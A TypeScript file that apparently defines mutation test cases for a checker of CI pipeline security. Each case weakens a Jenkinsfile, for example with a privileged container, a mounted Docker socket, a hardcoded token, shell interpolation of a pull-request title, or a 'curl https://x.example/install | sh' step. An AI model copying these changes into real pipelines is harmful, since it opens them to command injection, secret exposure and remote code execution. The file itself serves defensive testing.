import { append, edit, write } from '../mutation';
import { JENKINS, READERS, on } from './pipelineChanges';

/** Ways to weaken a pipeline of Jenkins. */
export const jenkins = on('node-jenkins', [
  {
    what: 'an image by tag',
    change: edit(JENKINS, /'node:24-bookworm@\S+'/, "'node:24'"),
    at: { path: JENKINS, text: "'node:24'" },
  },
  {
    what: 'any machine',
    change: edit(JENKINS, "agent { label 'linux && docker' }", 'agent any'),
    at: { path: JENKINS, text: 'agent any' },
  },
  {
    what: 'values that Groovy puts into a script',
    change: edit(
      JENKINS,
      "sh '''\n          npm ci",
      "sh \"echo ${env.CHANGE_TITLE}\"\n        sh '''\n          npm ci",
    ),
    at: { path: JENKINS, text: 'CHANGE_TITLE' },
  },
  {
    what: 'a container with every right',
    change: edit(
      JENKINS,
      'reuseNode true',
      "reuseNode true\n              args '--privileged'",
    ),
    at: { path: JENKINS, text: '--privileged' },
  },
  {
    what: 'the socket of Docker',
    change: edit(
      JENKINS,
      'reuseNode true',
      "reuseNode true\n              args '-v /var/run/docker.sock:/var/run/docker.sock'",
    ),
    at: { path: JENKINS, text: 'docker.sock' },
  },
  {
    what: 'the time limit',
    change: edit(JENKINS, "    timeout(time: 90, unit: 'MINUTES')\n", ''),
    at: { path: JENKINS, text: "stage('Lint')" },
  },
  {
    what: 'one run at a time',
    change: edit(JENKINS, /.*disableConcurrentBuilds.*\n/, ''),
    at: { path: JENKINS, text: 'pipeline {' },
  },
  {
    what: 'a library that is not pinned',
    change: edit(JENKINS, 'pipeline {', "@Library('shared') _\npipeline {"),
    at: { path: JENKINS, text: '@Library' },
    also: READERS,
  },
  {
    what: 'a token in the file',
    change: edit(
      JENKINS,
      "    TOOLS_DIR = '.tools'",
      "    TOOLS_DIR = '.tools'\n    FAIRWAY_TOKEN = 'letmein'",
    ),
    at: { path: JENKINS, text: "'letmein'" },
  },
  {
    what: 'a download that is run',
    change: edit(
      JENKINS,
      '          npm test',
      '          npm test\n          curl https://x.example/install | sh',
    ),
    at: { path: JENKINS, text: 'curl' },
  },
  {
    what: 'its form',
    change: write(JENKINS, "node {\n  sh 'make'\n}\n"),
    state: 'unknown',
    at: { path: JENKINS },
    also: READERS,
  },
  {
    what: 'its end',
    change: append(JENKINS, 'stage {'),
    state: 'unknown',
    at: { path: JENKINS },
    also: READERS,
  },
]);
